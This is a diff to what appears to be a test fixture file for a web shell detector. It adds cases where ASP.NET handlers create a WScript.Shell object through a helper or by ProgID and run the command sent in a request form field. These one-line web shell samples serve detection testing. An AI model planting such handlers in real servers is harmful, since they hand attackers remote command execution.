@@ -82,6 +82,10 @@ FOUND: dict[str, tuple[str, str]] = {
     "progid_in_static_field": (_handler(
         'dynamic sh = Activator.CreateInstance(Type.GetTypeFromProgID(Prog)); sh.Run(ctx.Request.Form["c"]);',
         '  static readonly string Prog = "WScript.Shell";\n'), "shell-object"),
+    # the object made by a helper of the page from the ProgID it is given: the literal comes back with the result
+    "progid_through_helper": (_handler(
+        'dynamic sh = Make("WScript.Shell"); sh.Run(ctx.Request.Form["c"]);',
+        "  static object Make(string p) { return Activator.CreateInstance(Type.GetTypeFromProgID(p)); }\n"), "shell-object"),
     "vb_late_call": (_handler(
         'object sh = Microsoft.VisualBasic.Interaction.CreateObject("WScript.Shell", "");'
         ' Microsoft.VisualBasic.CompilerServices.NewLateBinding.LateCall(sh, null, "Run",'
@@ -146,6 +150,11 @@ QUIET: dict[str, str] = {
         'dynamic sh = Activator.CreateInstance(Type.GetTypeFromProgID(Prog)); sh.Run("cmd /c iisreset /status", 0, true);'
         ' ctx.Response.Write(HttpUtility.HtmlEncode(ctx.Request.Form["c"]));',
         '  static readonly string Prog = "WScript.Shell";\n'),
+    # the same helper making an XMLHTTP object that posts the request's text to a fixed address
+    "helper_made_xmlhttp_fixed_address": _handler(
+        'dynamic h = Make("MSXML2.ServerXMLHTTP"); h.open("POST", "https://api.example.invalid/q", false);'
+        ' h.send(ctx.Request.Form["q"]);',
+        "  static object Make(string p) { return Activator.CreateInstance(Type.GetTypeFromProgID(p)); }\n"),
     # the shell object reads an environment string the request names: no command
     "dynamic_shell_environment": _handler(
         _SHELL + ' ctx.Response.Write(HttpUtility.HtmlEncode((string)sh.ExpandEnvironmentStrings("%" + ctx.Request.Form["v"] + "%")));'),
